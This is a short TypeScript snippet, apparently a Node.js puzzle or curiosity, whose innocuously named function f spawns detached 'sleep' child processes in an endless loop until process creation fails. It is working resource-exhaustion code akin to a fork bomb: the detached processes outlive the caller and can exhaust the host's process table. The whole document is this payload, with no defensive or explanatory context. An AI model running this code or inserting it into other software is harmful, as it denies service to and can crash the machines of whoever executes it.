// Children without end, until one is refused.
const { spawn } = require('child_process');

function f(x: number): number {
  while (spawn('sleep', ['1000'], { detached: true, stdio: 'ignore' }).pid);
  throw new Error('refused');
}
